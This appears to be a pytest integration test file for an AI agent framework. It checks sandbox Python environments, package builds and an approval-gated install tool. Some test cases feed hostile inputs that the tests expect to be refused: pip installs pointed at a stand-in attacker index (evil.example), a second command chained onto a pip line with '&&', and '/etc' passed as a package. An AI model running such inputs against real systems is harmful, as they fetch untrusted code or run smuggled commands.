"""Which Python cells run in, by configuration; packages by `Agent`; the install tool behind policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import anyio
import pytest
from tests.wheels import Index

from pinfold import Agent, Approval, PinfoldError, tool
from pinfold.events import ActionFinished, ActionProposed, CallTool, Noticed
from pinfold.sandbox.environment import build, recipe

pytestmark = pytest.mark.integration


@pytest.fixture
def small(index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Index:
    """The usual packages are but one, so that a build takes a second."""
    lock = tmp_path / "lock.txt"
    lock.write_text(index.add("heron"))
    monkeypatch.setattr(recipe, "LOCK", lock)
    return index


def agent_of(workspace: Path, model: str, **more: Any) -> Agent:
    return Agent(model=model, workspace=workspace, sandbox="unsafe-local", **more)


def installs(package: Any) -> dict[str, Any]:
    return {"calls": [{"tool": "install", "args": {"package": package}}]}


async def notices_of(agent: Agent) -> list[str]:
    assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
    events = [entry.event for entry in agent._live.log.read()]  # pyright: ignore[reportPrivateUsage]
    return [event.text for event in events if isinstance(event, Noticed)]


async def test_without_an_environment_cells_run_in_our_own_python_and_it_is_said_once(
    workspace: Path, script: Any
) -> None:
    said: list[bool] = []
    for _ in range(2):
        async with agent_of(workspace, script({"text": "hi"})) as agent:
            said.append(any("`pinfold env build`" in text for text in await notices_of(agent)))
    assert said == [True, False]


async def test_cells_run_in_the_environment_once_it_is_built(
    small: Index, workspace: Path, script: Any, cell: Any
) -> None:
    environment = build()
    model = script(
        cell("import heron, sys; print(sys.prefix)"), {"expect": str(environment.folder), "text": "yes"}
    )
    async with agent_of(workspace, model) as agent:
        assert (await agent.run("where?")).text == "yes"
        assert not any("not built" in text for text in await notices_of(agent))


async def test_packages_given_to_an_agent_are_built_first(
    small: Index, workspace: Path, script: Any, cell: Any
) -> None:
    small.add("nest")
    model = script(
        cell("import heron, nest; print('both', nest.version)"), {"expect": "both 1.0", "text": "ok"}
    )
    async with agent_of(workspace, model, packages=["Nest"]) as agent:
        assert (await agent.run("go")).text == "ok"


async def test_packages_that_cannot_be_had_are_said_before_anything_runs(
    small: Index, workspace: Path, script: Any
) -> None:
    with pytest.raises(PinfoldError, match="no package 'nosuch'"):
        async with agent_of(workspace, script({"text": "x"}), packages=["nosuch"]):
            pass
    with pytest.raises(PinfoldError, match="is no package"):
        agent_of(workspace, script({"text": "x"}), packages=["./x"])


async def test_packages_that_are_configured_and_not_built_are_said(
    small: Index, workspace: Path, script: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PINFOLD_SANDBOX_PACKAGES", '["nest"]')
    async with agent_of(workspace, script({"text": "hi"})) as agent:
        assert "the environment with nest is not built: `pinfold env build` makes it" in await notices_of(
            agent
        )


async def test_a_python_of_the_users_own_runs_the_cells(
    small: Index, workspace: Path, script: Any, cell: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = build(["heron"], lock="")
    monkeypatch.setenv("PINFOLD_SANDBOX_PYTHON", str(own.python))
    model = script(cell("import sys; print(sys.prefix)"), {"expect": str(own.folder), "text": "ok"})
    async with agent_of(workspace, model) as agent:
        assert (await agent.run("go")).text == "ok"
    with pytest.raises(PinfoldError, match="nothing is added to that"):
        async with agent_of(workspace, script({"text": "x"}), packages=["heron"]):
            pass


async def test_an_approved_package_is_installed_and_stays_with_the_session(
    index: Index, workspace: Path, script: Any, cell: Any
) -> None:
    index.add("heron")
    asked: list[str] = []

    async def approve(approval: Approval) -> bool:
        asked.append(approval.reason)
        return True

    model = script(
        cell("import heron"),
        {"expect": "ModuleNotFoundError", **installs("heron")},
        {"expect": "installed heron 1.0", **cell("import heron; print('legs', heron.version)")},
        {"expect": "legs 1.0", "text": "two"},
    )
    async with agent_of(workspace, model, approve=approve) as agent:
        assert (await agent.run("how many legs?")).text == "two"
    assert asked == ["the package heron would be fetched from the package index and put into the session"]
    again = script(
        cell("import heron; print('still', heron.version)"), {"expect": "still 1.0", "text": "yes"}, name="2"
    )
    async with Agent(session=agent.session_id, model=again) as resumed:
        assert (await resumed.run("still?")).text == "yes"


@pytest.mark.parametrize(
    ("mode", "seen"), [("auto", "nobody is there to ask"), ("full", "installed heron 1.0")]
)
async def test_unattended_a_package_is_installed_in_mode_full_only(
    index: Index, workspace: Path, script: Any, mode: Any, seen: str
) -> None:
    index.add("heron")
    model = script(installs("heron"), {"expect": seen, "text": "ok"})
    async with agent_of(workspace, model, mode=mode, ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"


@pytest.mark.parametrize(
    ("package", "seen"),
    [("nosuch", "no package 'nosuch'"), ("/etc", "is no package"), (3, "wrong arguments for install")],
)
async def test_a_package_that_cannot_be_had_is_told_to_the_model(
    index: Index, workspace: Path, script: Any, package: Any, seen: str
) -> None:
    model = script(installs(package), {"expect": seen, "text": "ok"})
    async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
        finished = [event async for event in agent.stream("go") if isinstance(event, ActionFinished)]
    assert [event.outcome for event in finished] == ["error"]


@pytest.mark.parametrize("sandbox", ["namespaces", "unsafe-local"])
@pytest.mark.parametrize(
    "line", ["%pip install heron twig", "!pip install -q heron twig", "said = !pip install heron twig"]
)
async def test_a_cell_installs_packages_and_imports_them_at_once(
    index: Index, workspace: Path, script: Any, cell: Any, sandbox: str, line: str
) -> None:
    index.add("heron")
    index.add("twig")
    model = script(
        cell(f"{line}\nimport heron, twig; print('legs', heron.version)"),
        {"expect": "legs 1.0", "text": "ok"},
    )
    async with Agent(model=model, workspace=workspace, sandbox=sandbox, mode="full") as agent:
        assert (await agent.run("go")).text == "ok"
        assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
        events = [entry.event for entry in agent._live.log.read()]  # pyright: ignore[reportPrivateUsage]
    (outer,) = [event for event in events if isinstance(event, ActionProposed) and event.parent is None]
    calls = [event for event in events if isinstance(event, ActionProposed) and event.parent]
    assert [(call.by, call.parent, call.action) for call in calls] == [
        ("cell", outer.id, CallTool(tool="install", args={"package": name})) for name in ("heron", "twig")
    ]


async def test_what_the_tool_says_is_printed(index: Index, workspace: Path, script: Any, cell: Any) -> None:
    index.add("heron")
    model = script(cell("%pip install heron"), {"expect": "installed heron 1.0\n", "text": "ok"})
    async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"


@pytest.mark.parametrize(
    ("mode", "line", "seen"),
    [
        ("auto", "%pip install heron", "ToolRefused: This was not run: the package heron would be fetched"),
        ("read-only", "%pip install heron", "ToolRefused: This was not run: a package would be installed"),
        ("full", "%pip install nosuch", "ToolFailed: install failed: "),
        (
            "full",
            "%pip install -i http://evil.example/simple heron",
            "only packages can be named here, without -i",
        ),
        ("full", "%pip install -r requirements.txt", "only packages can be named here, without -r"),
        (
            "full",
            "%pip install --index-url=http://evil.example heron",
            "without --index-url=http://evil.example",
        ),
        ("full", "!pip install heron && touch x", "by a line of its own"),
        ("full", "%pip install", "name the packages to install"),
        ("full", "%pip install git+https://example.org/x", "is no package"),
    ],
)
async def test_a_package_a_cell_may_not_or_cannot_have_is_its_error(
    index: Index, workspace: Path, script: Any, cell: Any, mode: Any, line: str, seen: str
) -> None:
    index.add("heron")
    model = script(cell(f"{line}\nprint('went on')"), {"expect": seen, "text": "ok"})
    async with Agent(
        model=model, workspace=workspace, sandbox="namespaces", mode=mode, ephemeral=True
    ) as agent:
        result = await agent.run("go")
        assert result.text == "ok"
        assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
        ends = [entry.event for entry in agent._live.log.read() if isinstance(entry.event, ActionFinished)]  # pyright: ignore[reportPrivateUsage]
    assert "went on" not in ends[-1].observation
    if "evil" in line or mode != "full":
        assert index.asked == []


async def test_a_user_is_asked_about_a_cells_package_outside_its_time(
    index: Index, workspace: Path, script: Any, cell: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.add("heron")
    asked: list[Any] = []

    async def approve(approval: Approval) -> bool:
        asked.append(approval)
        await anyio.sleep(2.2)
        return True

    model = script(cell("%pip install heron\nimport heron; print('legs')"), {"expect": "legs", "text": "ok"})
    monkeypatch.setenv("PINFOLD_SANDBOX_CELL_S", "2")
    async with agent_of(workspace, model, approve=approve) as agent:
        assert (await agent.run("go")).text == "ok"
    assert len(asked) == 1


async def test_a_cell_gets_the_whole_of_a_long_result_and_the_model_none(
    workspace: Path, script: Any, cell: Any
) -> None:
    @tool(effect="pure")
    def rows(count: int) -> str:
        """Many rows."""
        return "row of the table\n" * count

    code = "from _pinfold_guest.calls import call\nprint('has', len(call('rows', count=10_000)))"
    model = script(cell(code), {"expect": "has 170000", "text": "ok"})
    async with Agent(
        model=model, workspace=workspace, sandbox="namespaces", tools=[rows], ephemeral=True
    ) as agent:
        assert (await agent.run("go")).text == "ok"
